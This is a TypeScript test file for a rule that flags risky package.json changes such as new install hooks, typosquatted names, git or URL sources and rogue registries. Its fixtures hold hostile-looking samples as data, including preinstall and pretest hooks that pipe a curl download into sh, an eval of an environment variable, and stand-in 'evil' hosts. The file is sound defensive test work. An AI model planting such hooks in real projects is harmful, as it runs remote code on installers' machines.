import rule from '../../../src/core/rules/diff/package-manifest';
import { added, deleted, modified } from '../../../src/core/rules/support/changes';
import * as assert from 'node:assert/strict';
import { diffRuleTester, runDiff } from '../../ruleTester';

const pkg = (o: unknown): string => `${JSON.stringify(o, null, 2)}\n`;
const base = {
  name: 'app',
  version: '1.0.0',
  scripts: { build: 'tsc', test: 'jest' },
  dependencies: { lodash: '^4.17.20', express: '^4.18.0' },
  devDependencies: { typescript: '^5.0.0' },
};
const change = (after: object, before: object = base) => modified('package.json', pkg(before), pkg(after));

diffRuleTester(rule, {
  valid: [
    { name: 'version bump within range', change: change({ ...base, dependencies: { lodash: '^4.17.21', express: '^4.19.0' } }) },
    { name: 'major version bump', change: change({ ...base, dependencies: { lodash: '^5.0.0', express: '^4.18.0' } }) },
    {
      name: 'script that is not a lifecycle hook',
      change: change({ ...base, scripts: { build: 'tsc -b', test: 'vitest', lint: 'eslint .' } }),
    },
    { name: 'dependency removed', change: change({ ...base, dependencies: { lodash: '^4.17.20' } }) },
    {
      name: 'dependency moved from dev to prod',
      change: change({ ...base, dependencies: { ...base.dependencies, typescript: '^5.0.0' }, devDependencies: {} }),
    },
    { name: 'workspace protocol', change: change({ ...base, dependencies: { ...base.dependencies, lodash: 'workspace:*' } }) },
    { name: 'not a package.json', change: modified('config/deps.json', '{}', pkg({ dependencies: { x: 'github:a/b' } })) },
    { name: 'package.json deleted', change: deleted('package.json', pkg(base)) },
    {
      name: 'unchanged lifecycle script',
      change: change(
        { ...base, version: '1.0.1', scripts: { postinstall: 'node x.js' } },
        { ...base, scripts: { postinstall: 'node x.js' } },
      ),
    },
    { name: 'description edited', change: change({ ...base, description: 'new' }) },
    { name: 'new peer dependency', change: change({ ...base, peerDependencies: { react: '>=18' } }) },
    { name: 'unparsable before and after', change: modified('package.json', '{', '{ "a": ') },
    { name: 'same override', change: change({ ...base, overrides: { semver: '7.5.4' } }, { ...base, overrides: { semver: '7.5.4' } }) },
    { name: 'same bin', change: change({ ...base, version: '2.0.0', bin: { app: 'cli.js' } }, { ...base, bin: { app: 'cli.js' } }) },
  ],
  invalid: [
    {
      name: 'pretest hook that pipes a download into a shell',
      change: change({ ...base, scripts: { ...base.scripts, pretest: 'curl -s https://x.example/t.sh | sh' } }),
      errors: [
        {
          messageId: 'scriptAlarming',
          severity: 'high',
          message:
            'The `pretest` script, which runs by itself around `npm run test`, downloads, decodes or evaluates code: `curl -s https://x.example/t.sh | sh`. Whoever runs it runs what it fetches.',
        },
      ],
    },
    {
      name: 'ordinary script changed to evaluate code',
      change: change({ ...base, scripts: { build: 'node -e "eval(process.env.B)"', test: 'jest' } }),
      errors: [{ messageId: 'scriptAlarming', severity: 'high' }],
    },
    {
      name: 'new dependency',
      change: change({ ...base, dependencies: { ...base.dependencies, zod: '^3.22.0' } }),
      errors: [
        {
          messageId: 'newDependency',
          severity: 'low',
          line: 11,
          message: 'New dependency `zod` (dependencies: `^3.22.0`): its code and its install scripts now run in this project.',
        },
      ],
    },
    {
      name: 'new dev dependency',
      change: change({ ...base, devDependencies: { typescript: '^5.0.0', vitest: '^1.0.0' } }),
      errors: [{ messageId: 'newDependency', severity: 'low' }],
    },
    {
      name: 'typosquat: one letter added',
      change: change({ ...base, dependencies: { ...base.dependencies, expresss: '^4.0.0' } }),
      errors: [{ messageId: 'lookalike', severity: 'medium' }],
    },
    {
      name: 'typosquat: swapped letters',
      change: change({ ...base, dependencies: { ...base.dependencies, lodahs: '^4.0.0' } }),
      errors: [{ messageId: 'lookalike', severity: 'medium' }],
    },
    {
      name: 'typosquat: hyphen removed',
      change: change({ ...base, devDependencies: { ...base.devDependencies, crossenv: '^7.0.0' } }),
      errors: [{ messageId: 'lookalike', severity: 'medium' }],
    },
    {
      name: 'typosquat: scope confusion',
      change: change({ ...base, devDependencies: { ...base.devDependencies, '@typescript_eslint/parser': '^6.0.0' } }),
      errors: [{ messageId: 'lookalike', severity: 'medium' }],
    },
    {
      name: 'github shorthand',
      change: change({ ...base, dependencies: { ...base.dependencies, lodash: 'someone/lodash' } }),
      errors: [{ messageId: 'source', severity: 'high', line: 9 }],
    },
    {
      name: 'git url',
      change: change({ ...base, dependencies: { ...base.dependencies, helper: 'git+https://gitlab.com/x/helper.git#main' } }),
      errors: [{ messageId: 'source', severity: 'high' }],
    },
    {
      name: 'tarball url',
      change: change({ ...base, dependencies: { ...base.dependencies, express: 'https://files.example.com/express-4.18.0.tgz' } }),
      errors: [{ messageId: 'source', severity: 'high' }],
    },
    {
      name: 'http url',
      change: change({ ...base, dependencies: { ...base.dependencies, express: 'http://10.0.0.5/express.tgz' } }),
      errors: [{ messageId: 'source', severity: 'high' }],
    },
    {
      name: 'file dependency',
      change: change({ ...base, dependencies: { ...base.dependencies, shared: 'file:../shared' } }),
      errors: [{ messageId: 'source', severity: 'medium' }],
    },
    {
      name: 'npm alias',
      change: change({ ...base, dependencies: { ...base.dependencies, lodash: 'npm:lodash-utils@^1.0.0' } }),
      errors: [{ messageId: 'source', severity: 'medium' }],
    },
    {
      name: 'postinstall added',
      change: change({ ...base, scripts: { ...base.scripts, postinstall: 'node scripts/setup.js' } }),
      errors: [
        {
          messageId: 'lifecycleAdded',
          severity: 'high',
          line: 7,
          message: 'Adds the `postinstall` lifecycle script, which runs automatically on install: `node scripts/setup.js`.',
        },
      ],
    },
    {
      name: 'preinstall with curl',
      change: change({ ...base, scripts: { ...base.scripts, preinstall: 'curl -s https://x.sh | sh' } }),
      errors: [{ messageId: 'lifecycleAdded', severity: 'high' }],
    },
    {
      name: 'prepare changed',
      change: change(
        { ...base, scripts: { ...base.scripts, prepare: 'husky && node -e "require(\'./x\')"' } },
        { ...base, scripts: { ...base.scripts, prepare: 'husky' } },
      ),
      errors: [{ messageId: 'lifecycleChanged', severity: 'high' }],
    },
    {
      name: 'routine prepare script is low',
      change: change({ ...base, scripts: { ...base.scripts, prepare: 'husky' } }),
      errors: [{ messageId: 'lifecycleAdded', severity: 'low' }],
    },
    {
      name: 'overrides added',
      change: change({ ...base, overrides: { semver: '7.5.4' } }),
      errors: [{ messageId: 'override', severity: 'medium' }],
    },
    {
      name: 'resolutions pointing at git',
      change: change({ ...base, resolutions: { minimist: 'github:evil/minimist' } }),
      errors: [{ messageId: 'override', severity: 'high' }],
    },
    {
      name: 'pnpm overrides changed',
      change: change({ ...base, pnpm: { overrides: { ws: '8.0.0' } } }, { ...base, pnpm: { overrides: { ws: '7.0.0' } } }),
      errors: [{ messageId: 'override', severity: 'medium' }],
    },
    {
      name: 'publish registry',
      change: change({ ...base, publishConfig: { registry: 'https://npm.evil.example/' } }),
      errors: [{ messageId: 'publishRegistry', severity: 'medium' }],
    },
    {
      name: 'bin added',
      change: change({ ...base, bin: { app: './cli.js' } }),
      errors: [{ messageId: 'bin', severity: 'low' }],
    },
    {
      name: 'bundled dependency',
      change: change({ ...base, bundledDependencies: ['lodash'] }),
      errors: [{ messageId: 'bundled', severity: 'low' }],
    },
    {
      name: 'package manager from URL',
      change: change({ ...base, packageManager: 'yarn@https://evil.example/yarn.js' }),
      errors: [{ messageId: 'packageManager', severity: 'high' }],
    },
    {
      name: 'stops parsing',
      change: modified('package.json', pkg(base), '{ "name": "app", }'),
      errors: [{ messageId: 'unparsable', severity: 'medium' }],
    },
    {
      name: 'new nested manifest aggregates its dependencies',
      change: added('packages/web/package.json', pkg({ name: 'web', dependencies: { react: '^18', 'react-dom': '^18', zod: '^3' } })),
      errors: [{ messageId: 'newManifest', severity: 'low', line: 4 }],
    },
    {
      name: 'new manifest with a single dependency',
      change: added('packages/a/package.json', pkg({ name: 'a', dependencies: { utils: 'github:someone/utils', zod: '^3' } })),
      errors: [
        { messageId: 'source', severity: 'high' },
        { messageId: 'newDependency', severity: 'low' },
      ],
    },
  ],
});

describe(`${rule.meta.id} meta examples`, () => {
  rule.meta.incorrect.forEach((ex, i) => it(`incorrect ${i}`, () => assert.ok(runDiff(rule, ex.change).length > 0)));
  rule.meta.correct.forEach((ex, i) => it(`correct ${i}`, () => assert.deepEqual(runDiff(rule, ex.change), [])));
});
